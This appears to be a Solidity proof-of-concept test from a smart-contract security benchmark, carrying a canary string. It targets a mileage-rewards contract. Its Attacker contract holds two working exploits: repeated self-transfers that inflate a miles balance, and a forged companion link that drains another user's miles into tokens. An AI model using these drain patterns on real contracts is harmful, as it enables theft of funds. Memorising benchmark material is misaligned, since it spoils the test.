// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./MileageAccounts.sol";
import "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";

// assay-canary-cff07f4c-e4b5-4c3c-9afa-5bbe3b4e218a

interface Vm {
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Coin is ERC20("Coin", "COIN") {
    constructor() {
        _mint(msg.sender, 1_000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ADMIN = address(0xAD);
    address private constant AIR = address(0xA12);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);

    Coin private token;
    MileageAccounts private desk;
    Attacker private mallory;

    function setUp() public {
        token = new Coin();
        desk = new MileageAccounts(token, ADMIN);
        token.transfer(address(desk), 1_000e18);
        bytes32 role = desk.AIRLINE_ROLE();
        vm.prank(ADMIN);
        desk.grantRole(role, AIR);
        mallory = new Attacker(desk);
        vm.startPrank(AIR);
        desk.credit(ANA, 50_000);
        desk.credit(address(mallory), 3_200);
        vm.stopPrank();
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        desk.move(BEN, 20_000);
        desk.setCompanion(BEN, true);
        vm.stopPrank();
        vm.startPrank(BEN);
        desk.setCompanion(ANA, true);
        desk.moveFor(ANA, BEN, 10_000);
        require(desk.cashIn(25_050) == 250.5e18 && token.balanceOf(BEN) == 250.5e18, "cashed in");
        vm.stopPrank();
        require(desk.milesOf(ANA) == 20_000 && desk.milesOf(BEN) == 4_950, "left");
        require(desk.totalMiles() == 28_150, "total");
        bytes32 role = desk.AIRLINE_ROLE();
        vm.startPrank(ADMIN);
        desk.grantRole(role, ADMIN);
        desk.revokeRole(role, AIR);
        desk.renounceRole(role, ADMIN);
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        vm.expectRevert();
        desk.credit(ANA, 1);
        vm.expectRevert(bytes("MileageAccounts: not a companion"));
        desk.moveFor(ANA, BEN, 1);
        vm.prank(AIR);
        vm.expectRevert(bytes("MileageAccounts: zero"));
        desk.credit(address(0), 1);
        vm.expectRevert(bytes("MileageAccounts: zero"));
        new MileageAccounts(IERC20(address(0)), ADMIN);
        vm.expectRevert(bytes("MileageAccounts: zero"));
        new MileageAccounts(token, address(0));
    }

    function test_RefusesTooMuch() public {
        vm.startPrank(ANA);
        vm.expectRevert(bytes("MileageAccounts: not enough miles"));
        desk.move(BEN, 50_001);
        vm.expectRevert(bytes("MileageAccounts: zero"));
        desk.move(address(0), 1);
        vm.expectRevert(bytes("MileageAccounts: too few miles"));
        desk.cashIn(99);
        vm.expectRevert(bytes("MileageAccounts: not enough miles"));
        desk.cashIn(50_001);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) > 450e18, "nothing gained");
    }

    function exploit2() public {
        mallory.accompany(ANA);
    }

    function test_Exploit2() public {
        exploit2();
        require(token.balanceOf(address(mallory)) >= 500e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function coin() public view returns (address) {
        return address(token);
    }
}

contract Attacker {
    MileageAccounts private desk;

    constructor(MileageAccounts d) {
        desk = d;
    }

    function accompany(address traveller) external {
        desk.setCompanion(traveller, true);
        desk.moveFor(traveller, address(this), 50_000);
        desk.cashIn(50_000);
    }

    function run() external {
        for (uint256 i = 0; i < 4; i++) desk.move(address(this), desk.milesOf(address(this)));
        desk.cashIn(50_000);
    }
}
